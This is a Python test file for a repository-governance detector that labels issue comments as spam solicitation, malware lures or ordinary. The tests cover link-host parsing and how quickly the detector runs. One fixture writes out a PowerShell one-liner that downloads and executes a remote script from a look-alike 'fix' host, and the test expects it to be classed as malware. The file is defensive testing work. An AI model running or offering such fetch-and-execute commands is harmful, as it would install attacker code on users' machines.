"""A repository's name in a link is the project's own only on GitHub's hosts, and one own
link does not vouch for a stranger's chat handle or phone number (review findings)."""

from __future__ import annotations

import time

import pytest

from governance.detect.context import DetectContext
from governance.detect.engine import classify
from governance.detect.malware_links import host_of, into_repo
from governance.model import Association, Label

STRANGER = DetectContext(repo="acme/widget", association=Association.NONE, author="newcomer")
AD = ("Earn $5000 a week from home with our trading bot, 10x returns guaranteed! "
      "Join now at {link} and DM me on telegram @richbot99")


@pytest.mark.parametrize("link", [
    "https://quickcash-profit.shop/acme/widget/join",
    "https://quickcash-profit.shop/join?r=acme/widget",
])
def test_repository_named_in_another_hosts_link_does_not_make_an_ad_the_projects(link: str) -> None:
    assert classify(AD.format(link=link), STRANGER).label is Label.SOLICITATION


def test_a_link_into_the_repository_does_not_vouch_for_a_strangers_chat_handle() -> None:
    text = ("Same problem as https://github.com/acme/widget/issues/12 . I made $5000 a week "
            "from home with my trading bot, 10x returns guaranteed! DM me on telegram "
            "@richbot99 or whatsapp +1 415 555 2671")
    assert classify(text, STRANGER).label is Label.SOLICITATION


def test_remote_script_from_a_free_host_naming_the_repository_in_its_path_is_a_lure() -> None:
    text = ("Fix: run this in PowerShell\n```\n"
            "iwr https://widget-fix.pages.dev/acme/widget/install.ps1 | iex\n```")
    assert classify(text, STRANGER).label is Label.MALWARE


@pytest.mark.parametrize(("url", "own"), [
    ("https://github.com/acme/widget/releases/tag/v1", True),
    ("https://github.com/acme/widget", True),
    ("https://raw.githubusercontent.com/acme/widget/main/install.sh", True),
    ("https://github.com/acme/widget-fix/releases", False),
    ("https://github.com/evil/acme/widget", False),
    ("https://evil.shop/acme/widget/", False),
    ("https://github.evil.shop/acme/widget/", False),
])
def test_into_repo_reads_host_and_path_prefix(url: str, own: bool) -> None:
    assert into_repo(url, host_of(url), "acme/widget") is own


def test_a_maintainers_many_own_addresses_are_capped_in_linear_time() -> None:
    """Capping own contacts compared every hit with every capped hit (quadratic: 0.56 s CPU
    for 3,000 of a maintainer's own addresses); loose bound, the benchmark holds the real one."""
    member = DetectContext(repo="acme/widget", association=Association.MEMBER, author="janedoe")
    text = "".join(f"mail janedoe.{i}@gmail.com " for i in range(5000))[:65_536]

    def cpu(body: str) -> float:
        start = time.thread_time()
        verdict = classify(body, member)
        assert verdict.label is Label.OK
        return time.thread_time() - start

    full = min(cpu(text) for _ in range(2))
    quarter = min(cpu(text[: len(text) // 4]) for _ in range(2))
    assert full / max(quarter, 0.005) < 6.0, f"{quarter:.3f} -> {full:.3f} s"
